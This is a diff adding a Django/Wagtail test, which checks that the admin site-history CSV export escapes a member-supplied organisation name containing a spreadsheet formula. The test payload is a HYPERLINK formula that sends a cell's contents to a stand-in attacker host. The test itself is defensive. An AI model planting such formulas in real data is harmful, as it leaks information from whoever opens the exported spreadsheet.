@@ -45,3 +45,22 @@ def test_files_start_with_a_byte_order_mark_and_keep_accents():
     response = csv_response("x.csv", ["a"], [["@x"]])
     assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
     assert response.content.decode("utf-8") == BOM + "a\r\n'@x\r\n"
+
+
+@pytest.mark.django_db
+def test_wagtails_site_history_export_writes_a_member_typed_name_as_text(client):
+    # A member proposes their organisation's name; staff approve it in the Wagtail admin,
+    # which logs the name as the entry's label, exported by Reports → Site history.
+    from wagtail.log_actions import log
+
+    from hub.accounts.tests.factories import OrganisationFactory, UserFactory
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Voir")'
+    staff = UserFactory(is_staff=True, is_superuser=True)
+    log(instance=OrganisationFactory(name=formula), action="wagtail.edit", user=staff)
+    client.force_login(staff)
+    response = client.get("/admin/reports/site-history/?export=csv")
+    assert response.status_code == 200
+    text = b"".join(response.streaming_content).decode("utf-8")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + formula in cells and formula not in cells
